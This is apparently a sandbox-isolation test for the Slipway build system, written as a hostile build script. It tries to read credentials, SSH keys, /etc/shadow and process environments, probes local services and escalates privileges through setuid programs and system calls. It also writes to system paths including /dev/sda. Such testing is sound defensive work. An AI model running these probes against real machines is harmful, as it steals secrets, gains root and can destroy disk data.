"""A hostile program: what somebody would try whose code Slipway builds and checks. It knows everything but secrets.

Run as `setup.py`, from a conftest, or as a check: `python hostile.py FACTS`. Each attempt says what it got; nothing is
an empty text. It only ever looks and knocks: whoever runs it against a machine that holds nothing loses nothing.
"""

# It is written as an intruder would, with the oldest of calls.
# ruff: noqa: PTH101, PTH116, PTH119, PTH123, PTH207, PTH208

import ctypes
import glob
import json
import os
import signal
import socket
import ssl
import stat
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

FACTS: dict[str, Any] = {}
ATTEMPTS: dict[str, Callable[[], str]] = {}
CLONE_NEWUSER = 0x10000000


def attempt(function: Callable[[], str]) -> Callable[[], str]:
    ATTEMPTS[function.__name__] = function
    return function


def read(path: str) -> str:
    try:
        with open(path, "rb") as file:
            return f"{path}: {file.read(200)!r}" if file else ""
    except OSError:
        return ""


def listed(folder: str) -> str:
    try:
        return f"{folder}: {sorted(os.listdir(folder))[:20]}"
    except OSError:
        return ""


def knock(port: int, question: bytes) -> str:
    """What a port of 127.0.0.1 answers."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3) as connection:
            connection.sendall(question)
            return f"{port}: {connection.recv(300)!r}"
    except OSError:
        return ""


def ask(url: str) -> str:
    """A page, where it is given without a password."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context))
    try:
        with opener.open(url, timeout=3) as answer:
            return f"{url}: {answer.read(200)!r}"
    except OSError:  # HTTP errors, 401 and 403 among them, are such
        return ""


def first(*found: str) -> str:
    return next(filter(None, found), "")


@attempt
def credentials() -> str:
    state = FACTS["state"]
    names = ("credentials.json", "settings.json", "build-environment.json", "s3-identities.json", "installation.json")
    return first(*(read(f"{state}/{name}") for name in names[: 4 if FACTS["user_only"] else 5]))


@attempt
def database_passwords() -> str:
    return first(listed(f"{FACTS['state']}/credentials.d"), *map(read, glob.glob(f"{FACTS['state']}/credentials.d/*")))


@attempt
def supervisor_files() -> str:
    folder = f"{FACTS['state']}/supervisor"
    return first(
        listed(folder),
        read(f"{folder}/supervisord.conf"),
        *(read(f"{folder}/launch/{g}/{g}.json") for g in FACTS["groups"]),
    )


@attempt
def supervisor_socket() -> str:
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(f"{FACTS['sockets']}/supervisor.sock")
            return "connected"
    except OSError:
        return ""


@attempt
def environments_of_processes() -> str:
    found = [read(path) for path in glob.glob("/proc/[0-9]*/environ")]
    return first(*(text for text in found if "PREFECT_" in text or "SLIPWAY_STACK" in text or "WEED_" in text))


@attempt
def memory_and_files_of_processes() -> str:
    others = [pid for pid in FACTS["pids"] if is_ours(pid)]
    places = ("mem", "fd", "cwd/.", "root/etc/shadow", "maps")
    return first(*(first(read(f"/proc/{p}/{x}"), listed(f"/proc/{p}/{x}")) for p in others for x in places))


@attempt
def processes_outside() -> str:
    return "" if FACTS["user_only"] else first(*(f"sees {pid}" for pid in FACTS["pids"] if is_ours(pid)))


def is_ours(pid: int) -> bool:
    return any(name in read(f"/proc/{pid}/cmdline") for name in ("prefect", "supervisord", "weed", "postgres", "door"))


@attempt
def signals_to_processes() -> str:
    for pid in FACTS["pids"]:
        try:
            if FACTS["user_only"] or is_ours(pid):
                os.kill(pid, signal.SIGCONT)
                return f"may signal {pid}"
        except OSError:
            pass
    return ""


@attempt
def prefect_api() -> str:
    base = f"http://127.0.0.1:{FACTS['ports']['prefect']}/api"
    return first(ask(f"{base}/admin/version"), ask(f"{base}/block_types/slug/slipway-local-runner"))


@attempt
def ledger_database() -> str:
    """The server's first word to a stranger who claims to be the superuser: whether it asks for a password."""
    text = b"user\0postgres\0database\0slipway_ledger\0\0"
    packet = (8 + len(text)).to_bytes(4, "big") + (196608).to_bytes(4, "big") + text
    answer = knock(FACTS["ports"]["postgres"], packet)
    asked_for_password = "R" in answer and "SCRAM-SHA-256" in answer
    return first("" if asked_for_password and FACTS["user_only"] else answer, listed(f"{FACTS['sockets']}/postgres"))


@attempt
def object_store() -> str:
    return first(*(ask(f"http://127.0.0.1:{FACTS['ports']['s3']}/{path}") for path in ("", "releases?list-type=2")))


@attempt
def object_store_behind_its_door() -> str:
    ports = FACTS["ports"]
    pages = {"s3-master": "dir/assign", "s3-filer": "?pretty=y", "s3-volume": "1,01637037d6"}
    found = [
        ask(f"{scheme}://127.0.0.1:{ports[name]}/{page}")
        for name, page in pages.items()
        for scheme in ("http", "https")
    ]
    return first(
        *found, *(grpc(ports[name]) for name in ports if name.endswith("-grpc")), listed(f"{FACTS['state']}/s3")
    )


def grpc(port: int) -> str:
    """The settings of an HTTP/2 server that speaks to strangers, in the clear or with TLS but without our name."""
    hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
    clear = knock(port, hello)
    if clear and "\\x04" in clear and "\\x15" not in clear:
        return clear
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    try:
        with (
            socket.create_connection(("127.0.0.1", port), timeout=3) as raw,
            context.wrap_socket(raw) as connection,
        ):
            connection.sendall(hello)
            return f"{port}: {answer!r}" if (answer := connection.recv(100)) else ""
    except OSError:
        return ""


@attempt
def load_balancers() -> str:
    names = [name for name in FACTS["ports"] if name.startswith("metrics-")]
    pages = ("api/rawdata", "metrics")
    found = [ask(f"http://127.0.0.1:{FACTS['ports'][name]}/{page}") for name in names for page in pages]
    return "" if FACTS["user_only"] else first(*found)


@attempt
def any_port_of_the_stack() -> str:
    return (
        ""
        if FACTS["user_only"]
        else first(*(knock(port, b"GET / HTTP/1.0\r\n\r\n") for port in FACTS["ports"].values()))
    )


@attempt
def the_way_to_the_registry() -> str:
    """Asks the proxy that leads to the package registry for Slipway's own ports."""
    proxy = os.environ.get("HTTPS_PROXY", "")
    if not proxy:
        return ""
    port = int(proxy.rsplit(":", 1)[1])
    targets = [
        f"{host}:{p}" for host in ("127.0.0.1", "localhost", "0.0.0.0", "[::1]") for p in FACTS["ports"].values()
    ]
    answers = [knock(port, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode()) for target in targets[:60]]
    answers += [knock(port, f"GET http://127.0.0.1:{FACTS['ports']['prefect']}/ HTTP/1.1\r\n\r\n".encode())]
    return first(*(answer for answer in answers if "403 Forbidden" not in answer), "" if any(answers) else "no proxy")


@attempt
def other_networks() -> str:
    if FACTS["user_only"]:
        return ""
    with open("/proc/net/dev") as file:
        devices = [line.split(":")[0].strip() for line in file if ":" in line]
    return "" if devices == ["lo"] else str(devices)


@attempt
def release_store() -> str:
    state = FACTS["state"]
    if FACTS["user_only"]:
        return write(f"{state}/releases/x", f"{state}/releases/other/source/app.py")
    return first(listed(f"{state}/releases"), read(f"{state}/releases/other/source/app.py"))


@attempt
def files_of_another_application() -> str:
    state = FACTS["state"]
    places = [f"{state}/work/ci-other/source", f"{state}/mirrors", f"{state}/instances/homes/other"]
    return first(*map(listed, places), read(f"{state}/work/ci-other/source/secret.txt"))


@attempt
def keys_of_the_person() -> str:
    return first(listed(FACTS["home"]), read(f"{FACTS['home']}/.ssh/id_ed25519"), listed(f"{FACTS['home']}/.ssh"))


def write(*paths: str) -> str:
    for path in paths:
        try:
            with open(path, "w") as file:
                file.write("hostile")
            return f"wrote {path}"
        except OSError:
            pass
    return ""


@attempt
def writing_outside() -> str:
    above = str(Path.cwd().parent / "hostile")
    state = FACTS["state"]
    return write(
        "/usr/hostile", "/etc/hostile", "/hostile", f"{state}/hostile", above, f"{state}/work/hostile", "/dev/sda"
    )


@attempt
def root_by_a_program() -> str:
    for program in glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*"):
        try:
            if os.stat(program).st_mode & stat.S_ISUID and os.path.basename(program) in (
                "su",
                "sudo",
                "mount",
                "pkexec",
            ):
                arguments = {"su": ["-c", "id -u"], "mount": ["-t", "tmpfs", "x", "/mnt"]}
                words = arguments.get(os.path.basename(program), ["-n", "id", "-u"])
                done = subprocess.run([program, *words], capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
                if done.returncode == 0:
                    return f"{program}: {done.stdout!r}"
        except (OSError, subprocess.TimeoutExpired):
            pass
    copy = "mine"
    with open(copy, "wb") as file:
        file.write(b"#!/bin/sh\nid -u\n")
    os.chmod(copy, 0o4755)
    return "became root" if subprocess.run([f"./{copy}"], capture_output=True).stdout.strip() == b"0" else ""


@attempt
def root_by_a_call() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    calls: dict[str, Callable[[], object]] = {
        "setuid": lambda: os.setuid(0),
        "setgroups": lambda: os.setgroups([0]),
        "chroot": lambda: os.chroot("/"),
        "mknod": lambda: os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(8, 0)),
        "chown": lambda: os.chown("/etc/passwd", os.getuid(), os.getgid()),
        "sethostname": lambda: socket.sethostname("hostile"),
    }
    for name, call in calls.items():
        try:
            call()
            return name
        except OSError:
            pass
    if not libc.mount(b"none", b"/mnt", b"tmpfs", 0, None):
        return "mount"
    return "" if FACTS["user_only"] or libc.unshare(CLONE_NEWUSER) else "a user namespace"


@attempt
def secrets_in_the_environment() -> str:
    marks = ("PREFECT", "DATABASE", "S3_", "AWS", "SLIPWAY", "SECRET", "TOKEN", "PASSWORD", "WEED")
    return first(*(name for name in os.environ if any(mark in name for mark in marks)))


def main(facts: str) -> None:
    """Try everything; one line of JSON for each attempt."""
    FACTS.update(json.loads(facts))
    for name, function in ATTEMPTS.items():
        try:
            got = function()
        except Exception as exc:  # noqa: BLE001 - a hostile program goes on
            got = f"this attempt itself failed: {exc!r}"
        print("ATTEMPT " + json.dumps([name, got]), flush=True)


if __name__ == "__main__":
    main(sys.argv[-1])
